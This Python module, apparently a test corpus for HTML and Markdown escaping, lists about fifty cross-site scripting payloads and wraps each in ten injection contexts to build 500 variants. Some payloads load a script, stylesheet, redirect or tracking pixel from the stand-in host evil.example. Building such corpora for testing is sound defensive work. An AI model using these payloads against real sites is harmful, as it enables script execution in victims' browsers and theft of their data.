"""Texts that would run as a script, or load something, where a page does not escape them.

Written from public knowledge: the kinds of OWASP's cheat sheet on evading filters, in each of some surroundings.
"""

from __future__ import annotations

_RUN = "alert(1)"
_ELEMENTS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=x onerror=\n{_RUN}\n>",
    f'<IMG """><SCRIPT>{_RUN}</SCRIPT>">',
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}//",
    f"<svg><script>{_RUN}</script></svg>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<textarea autofocus onfocus={_RUN}>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<object data=javascript:{_RUN}></object>",
    f"<embed src=javascript:{_RUN}>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<a href=' javascript:{_RUN}'>x</a>",
    f"<a href='java\tscript:{_RUN}'>x</a>",
    f"<a href='&#106;avascript:{_RUN}'>x</a>",
    f"<form action=javascript:{_RUN}><button>x</button></form>",
    f"<button formaction=javascript:{_RUN}>x</button>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    f"<div style='width:expression({_RUN})'>x</div>",
    f"<math><mi xlink:href=javascript:{_RUN}>x</mi></math>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    f"<template><script>{_RUN}</script></template>",
    f"<xss id=x tabindex=1 onfocus={_RUN}></xss>",
    "<div hx-get=/t/x hx-trigger=load>x</div>",
    f"<div hx-on:click={_RUN}>x</div>",
    f"[x](javascript:{_RUN})",
    f"[x](JaVaScRiPt:{_RUN})",
    f"[x](data:text/html,<script>{_RUN}</script>)",
    f"[x](vbscript:{_RUN})",
    f"[x](&#x6A;avascript:{_RUN})",
    "![x](https://evil.example/pixel.png)",
    f"![x](x){{onerror={_RUN}}}",
    f"<javascript:{_RUN}>",
    f"[x]: javascript:{_RUN}\n\n[x]",
    f"`<script>{_RUN}</script>`",
    "{{7*7}}{% include 'base.html' %}",
)
_AROUND = (
    "{}", "\"'>{}", "</textarea>{}", "</title></script>{}", "-->{}<!--", "'-{}-'", "\x00{}", "&lt;{}&gt;", "\u202e{}",
    "> {}",
)  # fmt: skip
MARKUP = _ELEMENTS
"""Each kind once."""
ALL_MARKUP = tuple(around.format(each) if around != "{}" else each for each in _ELEMENTS for around in _AROUND)
"""Each kind in every surrounding."""
assert len(ALL_MARKUP) == 500
